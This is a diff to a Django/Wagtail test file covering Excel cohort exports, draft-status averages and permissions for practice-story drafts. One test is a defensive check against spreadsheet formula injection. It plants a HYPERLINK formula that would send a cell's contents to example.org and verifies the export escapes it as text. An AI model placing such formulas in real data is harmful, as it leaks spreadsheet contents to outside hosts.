@@ -6,15 +6,17 @@ from io import BytesIO
 import pytest
 from django.urls import reverse
 from openpyxl import load_workbook
-from wagtail.models import Page, Site
+from wagtail.models import GroupPagePermission, Page, Site
 
 from knowledge import demo as knowledge_demo
 from knowledge.models import KnowledgeIndexPage, PublicationPage
+from knowledge.services import review_workflow_setup
 from leergang.models import PracticeStory, Reflection, ScanMoment
 from leergang.selectors_cohort import cohort_overview
 from portal.models import HomePage
 from tests.leergang.cohort_factories import (
     SessionFactory,
+    accepted,
     cohort,
     coordinator,
     make_scan,
@@ -100,6 +102,41 @@ def test_the_export_loads_back_with_one_row_per_score_and_the_averages(client):
     averages = list(workbook["Gemiddelden"].iter_rows(values_only=True))
     assert len(averages) == 1 + 3 * 2 * 5
     assert {row[1] for row in averages[1:]} == {"Start", "Einde"}
+    assert averages[0][2] == "Status"
+    assert {row[2] for row in averages[1:]} == {"ingediend", "concept"}
+
+
+def test_text_that_looks_like_a_formula_is_exported_as_text(client):
+    application = accepted()
+    make_scan(application, score=3)
+    application.scans.get().scores.filter(bouwopgave=1, venster=1).update(
+        explanation='=HYPERLINK("https://example.org/?x="&A2,"klik")'
+    )
+    client.force_login(coordinator())
+    response = client.get(
+        reverse("leergang:cohort_export", args=[application.edition.slug])
+    )
+
+    sheet = load_workbook(BytesIO(response.content))["Scores"]
+    cell = sheet.cell(row=2, column=9)
+    assert cell.data_type == "s"
+    assert cell.value == '\'=HYPERLINK("https://example.org/?x="&A2,"klik")'
+
+
+def test_the_averages_sheet_says_which_scans_are_drafts(client):
+    application = accepted()
+    make_scan(application, score=2, submitted=False)
+    client.force_login(coordinator())
+    response = client.get(
+        reverse("leergang:cohort_export", args=[application.edition.slug])
+    )
+
+    averages = list(
+        load_workbook(BytesIO(response.content))["Gemiddelden"].iter_rows(
+            values_only=True
+        )
+    )
+    assert {row[2] for row in averages[1:]} == {"concept"}
 
 
 @pytest.fixture
@@ -118,6 +155,7 @@ def kennisbank(db):
     )
     home.add_child(instance=index)
     index.save_revision().publish()
+    review_workflow_setup(index=index)
     return index
 
 
@@ -138,6 +176,8 @@ def test_the_practice_story_is_a_draft_made_once(client, kennisbank):
     response = client.post(url)
     page = PublicationPage.objects.get()
     assert response.url == reverse("wagtailadmin_pages:edit", args=[page.pk])
+    # The coordinator, its owner, can open the draft in the back office.
+    assert client.get(response.url).status_code == 200
     assert not page.live
     assert page.get_parent().specific == kennisbank
     assert page.item_type == "praktijkverhaal"
@@ -153,3 +193,26 @@ def test_the_practice_story_is_a_draft_made_once(client, kennisbank):
     assert again.url == response.url
     assert PublicationPage.objects.count() == 1
     assert PracticeStory.objects.get().page_id == page.pk
+
+
+def test_a_coordinator_who_may_not_edit_the_kennisbank_hears_where_the_story_is(
+    client, kennisbank
+):
+    GroupPagePermission.objects.filter(page=kennisbank).delete()
+    app = cohort(size=1)[0]
+    client.force_login(coordinator())
+    url = reverse(
+        "leergang:cohort_story",
+        kwargs={
+            "edition_slug": app.edition.slug,
+            "municipality_slug": app.municipality.slug,
+        },
+    )
+
+    response = client.post(url, follow=True)
+
+    assert response.redirect_chain[-1][0] == reverse(
+        "leergang:cohort_overview", args=[app.edition.slug]
+    )
+    assert "Een redacteur werkt het verder uit" in response.content.decode()
+    assert not PublicationPage.objects.get().live
